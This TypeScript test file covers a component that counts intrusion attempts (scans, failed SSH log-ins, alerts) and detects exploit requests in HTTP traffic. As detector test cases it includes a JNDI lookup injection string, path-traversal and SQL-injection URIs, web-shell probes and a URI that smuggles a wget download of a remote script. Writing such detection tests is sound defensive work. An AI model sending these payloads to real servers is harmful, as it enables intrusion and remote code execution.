import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Fact } from "../behaviour/fact.js";
import { distinctError } from "../behaviour/sketches/distinct-counter.js";
import { factOf, hourUs, minuteUs, secondUs, testStartUs } from "../behaviour/testing.js";
import { nothingKnown } from "../targetedness/targetedness.js";
import { attemptOf } from "./attempt.js";
import { AttemptBook, type AttemptCount, mergeCounts } from "./attempt-book.js";
import { isExploitRequest } from "./exploit-requests.js";

const lookUp = ["$", "{jndi:ldap://a/b}"].join("");

type Given = Parameters<typeof factOf>[0];
const inward = (given: Given = {}): Fact =>
  factOf({ source: "192.0.2.9", destination: "10.0.0.7", destinationPort: 22, ...given });
const knock = (state: "refused" | "unanswered" | "half-open" | "established", given: Given = {}) =>
  inward({ connection: { state }, ...given });
const login = (given: Given = {}, more: Partial<NonNullable<Fact["login"]>> = {}) =>
  inward({
    log: "sshd",
    destination: "",
    destinationPort: 0,
    login: { service: "ssh", outcome: "failed", ...more },
    ...given,
  });
const counted = (facts: Iterable<Fact>, book = new AttemptBook()) => {
  for (const fact of facts) book.see(fact);
  return book
    .take(true)
    .map(({ kind, blockedBy, attempts, records }) => [kind, blockedBy, attempts, records]);
};
const times = <T>(count: number, make: (at: number) => T): readonly T[] =>
  Array.from({ length: count }, (_, at) => make(at));

describe("what counts as one attempt", () => {
  test("connections that were stopped, and by whom", () => {
    const stopped = (fact: Fact) => attemptOf(fact)?.stopped ?? null;
    expect(stopped(knock("refused"))).toBe("machine");
    expect(stopped(knock("unanswered"))).toBe("silence");
    expect(stopped(knock("half-open"))).toBe("nobody");
    expect(stopped(knock("established"))).toBeNull();
    expect(stopped(inward({ action: "blocked" }))).toBe("device");
  });

  test("failed log-ins, requests made to break in, alerts", () => {
    const http = (uri: string, status = 404) => inward({ http: { uri, status }, destinationPort: 443 });
    expect(attemptOf(login())).toMatchObject({ kind: "login", service: "ssh", stopped: "machine", times: 1 });
    expect(attemptOf(login({}, { outcome: "succeeded" }))).toBeNull();
    expect(attemptOf(http(`/?x=${lookUp}`))).toMatchObject({ kind: "exploit", stopped: "machine" });
    expect(attemptOf(http(`/?x=${lookUp}`, 200))).toMatchObject({
      kind: "exploit",
      stopped: "nobody",
    });
    expect(attemptOf(http("/index.html"))).toBeNull();
    const alert = (category: string) => inward({ log: "eve-alert", alert: { signature: "x", category } });
    expect(attemptOf(alert("Misc Attack"))?.kind).toBe("alert");
    expect(attemptOf(alert("Web Application Attack"))?.kind).toBe("exploit");
  });

  test("what goes out, what stays inside, and what nobody's machine is in, is none", () => {
    expect(attemptOf(inward({ source: "10.0.0.1", action: "blocked" }))).toBeNull();
    expect(attemptOf(inward({ destination: "198.51.100.1", action: "blocked" }))).toBeNull();
    expect(attemptOf(inward({ source: "", action: "blocked" }))).toBeNull();
  });

  test("requests of honest clients are none, also odd ones", () => {
    const of = (uri: string, userAgent = "Mozilla/5.0") =>
      isExploitRequest({
        uri,
        userAgent,
        host: "pier7.example",
        method: "GET",
        status: 200,
        bytesIn: null,
        bytesOut: null,
      });
    for (const uri of [
      "/",
      "/search?q=select+a+port+from+the+list",
      "/a/../b",
      "/docs/etc/passwords.html",
      "/shop?id=1&or=2",
      "/union-station/select",
      "/api/v1/vessels?name=O%27Connor",
      "/cgi-bin/status",
      "/image.png?size=100%",
    ])
      expect([uri, of(uri)]).toEqual([uri, false]);
    for (const uri of [
      "/..%2f..%2fetc/passwd",
      "/?id=1%20UNION%20ALL%20SELECT%20password",
      "/cgi-bin/.%2e/.%2e/bin/sh",
      "/.env",
      "/shell?cd+/tmp;wget+http://1.2.3.4/a.sh",
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
      "/wso.php",
    ])
      expect([uri, of(uri)]).toEqual([uri, true]);
    expect(of("/", lookUp)).toBe(true);
  });
});

describe("the same told twice", () => {
  test("a connection again, in another log, or within the minute, is one; another port or minute is another", () => {
    const again = times(5, () => knock("unanswered"));
    const blocked = inward({ log: "fortigate-traffic", action: "blocked", protocol: "tcp" });
    expect(counted(again)).toEqual([["knock", "no answer", 1, 5]]);
    expect(counted([...again, blocked])).toEqual([["knock", "fortigate-traffic", 1, 6]]);
    expect(counted([...again, knock("unanswered", { destinationPort: 23 })])).toEqual([
      ["knock", "no answer", 2, 6],
    ]);
    expect(counted([knock("refused"), knock("refused", { timeUs: testStartUs + minuteUs })])).toEqual([
      ["knock", "machine", 2, 2],
    ]);
  });

  test("log-ins count each, but not once per log or per kind of message", () => {
    const sshd = times(7, (at) =>
      login({ timeUs: testStartUs + at * secondUs }, { saying: "failed password" }),
    );
    const invalid = times(7, () => login({}, { saying: "invalid user" }));
    const sensor = times(3, () => login({ log: "zeek-ssh", destination: "10.0.0.7", destinationPort: 22 }));
    expect(counted([...sshd, ...invalid, ...sensor])).toEqual([["login", "machine", 7, 17]]);
    expect(
      counted([login({}, { times: 5 }), login({ login: { service: "ftp", outcome: "failed" } })]),
    ).toEqual([["login", "machine", 6, 2]]);
  });

  test("an alert about a connection that was blocked too is one, as the alert", () => {
    const alert = inward({ log: "eve-alert", alert: { signature: "ET SCAN", category: "Misc Attack" } });
    expect(counted([alert, knock("unanswered"), knock("unanswered", { destinationPort: 80 })])).toEqual([
      ["alert", "nobody", 1, 3],
      ["knock", "no answer", 1, 0],
    ]);
  });

  test("a minute is held open for half an hour after it was touched last", () => {
    const book = new AttemptBook();
    book.see(knock("refused"));
    expect(book.take()).toEqual([]);
    book.see(knock("refused", { receivedUs: testStartUs + 20 * minuteUs }));
    book.see(inward({ receivedUs: testStartUs + 40 * minuteUs, timeUs: testStartUs + 40 * minuteUs }));
    expect(book.take()).toEqual([]);
    book.see(inward({ receivedUs: testStartUs + 51 * minuteUs, timeUs: testStartUs + 51 * minuteUs }));
    expect(book.take().map(({ attempts, records }) => [attempts, records])).toEqual([[1, 2]]);
    expect(book.take(true)).toEqual([]);
  });
});

describe("counts", () => {
  const scan = (count: number) => times(count, (at) => knock("unanswered", { destinationPort: at + 1 }));

  test("say whom the source is after", () => {
    const book = new AttemptBook(null, (source) =>
      source === "192.0.2.99" ? { ...nothingKnown, labels: ["mass-scanner"] } : nothingKnown,
    );
    for (const memberId of ["a", "b", "c", "d", "e"])
      book.see(factOf({ memberId, timeUs: testStartUs - hourUs, receivedUs: testStartUs }));
    book.see(knock("refused", { memberId: "a" }));
    book.see(knock("refused", { memberId: "a", source: "192.0.2.99" }));
    for (const memberId of ["a", "b"]) book.see(knock("refused", { memberId, source: "192.0.2.50" }));
    book.see(factOf({ memberId: "a", timeUs: testStartUs + hourUs, receivedUs: testStartUs + hourUs }));
    const found = book
      .take()
      .map(({ memberId, targetedness, attempts }) => [memberId, targetedness, attempts]);
    expect(found).toHaveLength(4);
    expect(found).toEqual(
      expect.arrayContaining([
        ["a", "only-us", 1],
        ["a", "everybody", 1],
        ["a", "only-ports", 1],
        ["b", "only-ports", 1],
      ]),
    );
    expect(book.judgementOf("192.0.2.99").why).toContain("mass-scanner");
  });

  test("by lists alone, where many have met it by its nature", () => {
    const book = new AttemptBook(null, (source) =>
      source === "192.0.2.99" ? { ...nothingKnown, labels: ["mass-scanner"] } : nothingKnown,
    );
    for (const memberId of ["a", "b", "c", "d"]) book.see(knock("refused", { memberId }));
    expect(book.judgementOf("192.0.2.9").targetedness).toBe("everybody");
    expect(book.listedJudgementOf("192.0.2.9").targetedness).toBe("unknown");
    expect(book.listedJudgementOf("192.0.2.99").targetedness).toBe("everybody");
  });

  test("a clock that is years ahead makes nobody met, or watching, for years", () => {
    const book = new AttemptBook();
    for (const memberId of ["a", "b", "c", "d", "e"])
      book.see(knock("refused", { memberId, timeUs: testStartUs + 9000 * hourUs, receivedUs: testStartUs }));
    const later = testStartUs + 2000 * hourUs;
    book.see(factOf({ memberId: "f", timeUs: later, receivedUs: later }));
    expect(book.judgementOf("192.0.2.9").why).toBe("This port has not met it lately.");
    book.see(knock("refused", { memberId: "f", timeUs: later, receivedUs: later }));
    expect(book.judgementOf("192.0.2.9").why).toMatch(/^Only 1 member watches/);
  });

  test("add up, whatever their order, and stand by member, hour and kind", () => {
    const book = new AttemptBook();
    for (const fact of [...scan(20), login(), knock("refused", { timeUs: testStartUs + 2 * hourUs })])
      book.see(fact);
    const all = book.take(true);
    expect(
      all.map(({ hourUs: at, kind, attempts }) => [(at - testStartUs) / hourUs, kind, attempts]),
    ).toEqual(
      expect.arrayContaining([
        [0, "login", 1],
        [0, "knock", 20],
        [2, "knock", 1],
      ]),
    );
    const one = all as readonly AttemptCount[];
    expect(mergeCounts(one, one)).toEqual(mergeCounts([...one].reverse(), one));
    expect(mergeCounts(one, one).reduce((sum, { attempts }) => sum + attempts, 0)).toBe(44);
    expect(mergeCounts([], one)).toEqual(mergeCounts(one));
  });

  test("are the same over restarts and in any order", () => {
    const stop = fc.constantFrom("refused", "unanswered", "half-open", "established");
    const act = fc.record({
      state: stop,
      log: fc.constantFrom("zeek-conn", "eve-flow", "netfilter"),
      port: fc.integer({ min: 1, max: 6 }),
      minute: fc.nat(3),
      what: fc.constantFrom("knock", "alert", "login", "blocked"),
    });
    fc.assert(
      fc.property(fc.array(act, { maxLength: 50 }), fc.nat(49), (acts, cut) => {
        const facts = acts.map(({ state, log, port, minute, what }) => {
          const given = {
            log,
            destinationPort: port,
            timeUs: testStartUs + minute * minuteUs,
            receivedUs: testStartUs,
          };
          if (what === "login") return login({ ...given, destination: "10.0.0.7" });
          if (what === "alert")
            return inward({ ...given, alert: { signature: "s", category: "Misc Attack" } });
          return what === "blocked" ? inward({ ...given, action: "blocked" }) : knock(state, given);
        });
        expect(counted(facts)).toEqual(counted([...facts].reverse()));
        const before = new AttemptBook();
        for (const fact of facts.slice(0, cut)) before.see(fact);
        const after = new AttemptBook(structuredClone(before.save()));
        expect(counted(facts.slice(cut), after)).toEqual(counted(facts));
        expect(sums(facts)).toEqual(exact(facts));
      }),
      { numRuns: 100 },
    );
  });

  test("of many targets are within the stated error of the sketch", () => {
    for (const many of [65, 1000, 5000]) {
      const [[, , attempts] = []] = counted(scan(many));
      expect(Math.abs(Number(attempts) - many) / many, `${many}: ${attempts}`).toBeLessThan(
        4 * distinctError,
      );
    }
  });

  test("under a flood of sources stay under the bound; the oldest are counted early and nothing is lost", () => {
    const book = new AttemptBook(null, () => nothingKnown, 5000);
    for (let at = 0; at < 6000; at++) book.see(knock("refused", { source: `198.51.${at >> 8}.${at & 255}` }));
    expect(book.figures()).toMatchObject({ open: 5000, early: 1000 });
    expect(book.take(true).reduce((sum, { attempts }) => sum + attempts, 0)).toBe(6000);
  });

  test("begin anew with what can't be used", () => {
    expect(counted(scan(3), new AttemptBook("x"))).toEqual(counted(scan(3)));
    expect(counted(scan(3), new AttemptBook({ version: 1, open: [1, null, { memberId: "a" }] }))).toEqual(
      counted(scan(3)),
    );
  });
});

/** Attempts by kind, as the book counts them. */
function sums(facts: readonly Fact[]): Readonly<Record<string, number>> {
  const book = new AttemptBook();
  for (const fact of facts) book.see(fact);
  const found: Record<string, number> = {};
  for (const { kind, attempts } of book.take(true)) found[kind] = (found[kind] ?? 0) + attempts;
  return found;
}

/** The same by the definition alone, with sets: of each minute the targets, and for log-ins the log that tells of most. */
function exact(facts: readonly Fact[]): Readonly<Record<string, number>> {
  const found: Record<string, number> = {};
  const add = (kind: string, count: number) => {
    if (count > 0) found[kind] = (found[kind] ?? 0) + count;
  };
  for (const minute of new Set(facts.map(({ timeUs }) => timeUs))) {
    const attempts = facts.flatMap((fact) => {
      const attempt = fact.timeUs === minute ? attemptOf(fact) : null;
      return attempt === null ? [] : [{ ...attempt, log: fact.log }];
    });
    const targets = (kind: string) =>
      new Set(attempts.filter((each) => each.kind === kind).map(({ target, port }) => `${target} ${port}`));
    const logins = attempts.filter(({ kind }) => kind === "login");
    const logs = [...new Set(logins.map(({ log }) => log))];
    const byLog = logs.map((of) => logins.filter(({ log }) => log === of).length);
    add("login", Math.max(0, ...byLog));
    const alerts = targets("alert");
    add("alert", alerts.size);
    add("knock", [...targets("knock")].filter((target) => !alerts.has(target)).length);
  }
  return found;
}
